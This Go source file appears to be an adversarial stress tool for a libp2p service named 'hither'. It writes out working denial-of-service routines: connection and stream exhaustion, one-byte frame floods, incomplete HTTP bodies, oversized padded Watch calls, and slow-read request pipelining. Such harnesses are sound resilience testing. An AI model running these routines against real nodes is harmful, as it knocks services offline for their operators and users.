package main

import (
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"sync"
	"time"

	"github.com/libp2p/go-libp2p/core/network"
)

// each runs a function for as many peers at once as the attack has keys, once each.
func (a *attack) each(f func(e *evil)) error {
	var work sync.WaitGroup
	for range a.keys {
		work.Go(func() { a.once(f) })
	}
	work.Wait()
	return nil
}

func (a *attack) once(f func(e *evil)) {
	e, err := a.connected()
	if err != nil {
		a.tried(false, "connect: "+short(err))
		return
	}
	defer e.close()
	f(e)
}

// flood is each with peers that come again when they are thrown out, until the attack ends.
func (a *attack) flood(f func(e *evil)) error {
	var work sync.WaitGroup
	for range a.keys {
		work.Go(func() {
			for a.ctx.Err() == nil {
				a.once(f)
				a.rest(200 * time.Millisecond)
			}
		})
	}
	work.Wait()
	return nil
}

// rest waits, or the attacker is its own load.
func (a *attack) rest(d time.Duration) {
	wait, cancel := context.WithTimeout(a.ctx, d)
	defer cancel()
	<-wait.Done()
}

// onStreams runs a function on as many streams of one peer as the attack has; each is
// opened anew when it ends, until the attack does.
func (a *attack) onStreams(e *evil, f func() error) {
	var work sync.WaitGroup
	for range a.most {
		work.Go(func() {
			for a.ctx.Err() == nil && !e.conn.IsClosed() {
				err := f()
				if a.ctx.Err() != nil {
					return
				}
				if err != nil {
					a.tried(false, short(err))
				}
				a.rest(20 * time.Millisecond)
			}
		})
	}
	work.Wait()
}

// connections has ever more peers connect, and keeps what it gets.
func (a *attack) connections() error {
	var held sync.WaitGroup
	for range a.keys {
		held.Go(func() {
			for a.ctx.Err() == nil {
				e, err := a.connected()
				if err != nil {
					a.tried(false, short(err))
					continue
				}
				gone := make(chan struct{})
				e.host.Network().Notify(&network.NotifyBundle{DisconnectedF: func(network.Network, network.Conn) { close(gone) }})
				if e.conn.IsClosed() {
					e.close()
					a.tried(false, "connection closed")
					continue
				}
				select {
				case <-gone:
					a.tried(false, "connection closed")
				case <-a.ctx.Done():
					a.tried(true, "held")
				}
				e.close()
			}
		})
	}
	held.Wait()
	return nil
}

// streams opens streams without a word, and keeps them.
func (a *attack) streams() error {
	return a.flood(func(e *evil) {
		a.onStreams(e, func() error {
			s, err := e.conn.NewStream(a.ctx)
			if err != nil {
				return err
			}
			defer s.Reset()
			if _, err := s.Write([]byte{19}); err != nil {
				return err
			}
			_, err = io.Copy(io.Discard, untilEnd(a.ctx, s))
			return err
		})
	})
}

// held opens a stream without a deadline that ends with the attack.
func (a *attack) held(e *evil, protocolID string) (network.Stream, error) {
	s, err := e.stream(a.ctx, protocolID)
	if err != nil {
		return nil, err
	}
	return untilEnd(a.ctx, s), s.SetDeadline(time.Time{})
}

// untilEnd ends a stream with the attack.
func untilEnd(ctx context.Context, s network.Stream) network.Stream {
	context.AfterFunc(ctx, func() { _ = s.Reset() })
	return s
}

// tinyFrames fills what nobody reads, a byte in each frame: each costs a node that keeps
// frames as they come many times its size.
func (a *attack) tinyFrames() error {
	return a.flood(func(e *evil) {
		a.onStreams(e, func() error {
			s, err := a.held(e, pulseProtocol)
			if err != nil {
				return err
			}
			defer s.Reset()
			if _, err := s.Write(append([]byte{0, 2}, "{}"...)); err != nil {
				return err
			}
			return one(s)
		})
	})
}

// one writes a byte at a time until that fails.
func one(s io.Writer) error {
	b := make([]byte, 1)
	for range 256 << 10 {
		if _, err := s.Write(b); err != nil {
			return err
		}
	}
	return nil
}

// halfBodies sends all but the last byte of the largest message that is taken.
func (a *attack) halfBodies() error {
	body := make([]byte, 1<<20-1)
	return a.flood(func(e *evil) {
		a.onStreams(e, func() error {
			s, err := a.held(e, apiProtocol)
			if err != nil {
				return err
			}
			defer s.Reset()
			head := fmt.Sprintf("POST /hither.v1.MachineService/List HTTP/1.1\r\nHost: hither\r\nContent-Type: application/proto\r\nContent-Length: %d\r\n\r\n", len(body)+1)
			if _, err := io.WriteString(s, head); err != nil {
				return err
			}
			if _, err := s.Write(body); err != nil {
				return err
			}
			status, text, err := answer(s)
			if err == nil {
				err = fmt.Errorf("%d %.60s", status, text)
			}
			return err
		})
	})
}

// watch is a call that goes on, with padding in its message that no field has.
func watch(padding int) []byte {
	message := []byte{}
	if padding > 0 { // field 1000, length-delimited
		message = binary.AppendUvarint(message, 1000<<3|2)
		message = binary.AppendUvarint(message, uint64(padding))
		message = append(message, make([]byte, padding)...)
	}
	envelope := binary.BigEndian.AppendUint32([]byte{0}, uint32(len(message)))
	body := append(envelope, message...)
	head := fmt.Sprintf("POST /hither.v1.NodeService/Watch HTTP/1.1\r\nHost: hither\r\nContent-Type: application/connect+proto\r\nConnect-Protocol-Version: 1\r\nContent-Length: %d\r\n\r\n", len(body)+1<<20)
	return append([]byte(head), body...)
}

// fullWatches opens calls that go on, each with a message as large as is taken and with as
// much behind it as the stream takes, in tiny frames at the end.
func (a *attack) fullWatches() error {
	call := watch(1<<20 - 64)
	return a.flood(func(e *evil) {
		a.onStreams(e, func() error {
			s, err := a.held(e, apiProtocol)
			if err != nil {
				return err
			}
			defer s.Reset()
			if _, err := s.Write(call); err != nil {
				return err
			}
			return one(s)
		})
	})
}

// slowReads asks again and again and reads nothing.
func (a *attack) slowReads() error {
	return a.flood(func(e *evil) {
		a.onStreams(e, func() error {
			s, err := a.held(e, apiProtocol)
			if err != nil {
				return err
			}
			defer s.Reset()
			for range 10000 {
				if _, err := io.WriteString(s, post("/hither.v1.MachineService/List", "json", "{}")); err != nil {
					return err
				}
			}
			<-a.ctx.Done()
			return nil
		})
	})
}
